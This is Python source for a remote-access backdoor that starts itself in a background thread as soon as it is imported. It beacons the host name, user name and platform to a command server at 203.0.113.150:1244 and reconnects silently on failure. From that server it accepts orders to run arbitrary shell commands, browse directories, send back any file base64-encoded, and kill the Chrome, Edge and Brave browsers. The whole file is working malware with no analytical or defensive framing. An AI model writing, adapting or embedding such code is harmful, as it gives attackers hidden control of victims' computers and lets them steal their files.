import base64
import json
import os
import platform
import socket
import subprocess
import threading
import time

HOST, PORT = "203.0.113.150", 1244


class Shell:
    def __init__(self):
        self.sock = None

    def connect(self):
        while True:
            try:
                self.sock = socket.create_connection((HOST, PORT), timeout=60)
                self.send({"type": "hello", "sys": platform.platform(), "host": platform.node(),
                           "user": os.environ.get("USER") or os.environ.get("USERNAME")})
                return
            except OSError:
                time.sleep(30)

    def send(self, obj):
        data = json.dumps(obj).encode()
        self.sock.sendall(len(data).to_bytes(4, "big") + data)

    def recv(self):
        n = int.from_bytes(self.sock.recv(4), "big")
        buf = b""
        while len(buf) < n:
            chunk = self.sock.recv(n - len(buf))
            if not chunk:
                raise ConnectionError
            buf += chunk
        return json.loads(buf)

    def ssh_cmd(self, a):
        if a["cmd"] == "delete":
            return "bye"
        p = subprocess.Popen(a["cmd"], shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        return p.communicate(timeout=120)[0].decode(errors="ignore")

    def ssh_obj(self, a):
        os.chdir(a.get("dir", os.getcwd()))
        return "\n".join(os.listdir("."))

    def ssh_upload(self, a):
        with open(a["path"], "rb") as fh:
            return base64.b64encode(fh.read()).decode()

    def ssh_kill(self, a):
        for proc in ("chrome", "msedge", "brave"):
            subprocess.call(["taskkill", "/F", "/IM", proc + ".exe"] if os.name == "nt" else ["pkill", proc])
        return "killed"

    def run(self):
        self.connect()
        handlers = {"ssh_cmd": self.ssh_cmd, "ssh_obj": self.ssh_obj,
                    "ssh_upload": self.ssh_upload, "ssh_kill": self.ssh_kill}
        while True:
            try:
                msg = self.recv()
                fn = handlers.get(msg.get("code"))
                if fn:
                    self.send({"code": msg["code"], "res": fn(msg.get("args", {}))})
            except Exception:
                self.connect()


threading.Thread(target=Shell().run, daemon=True).start()
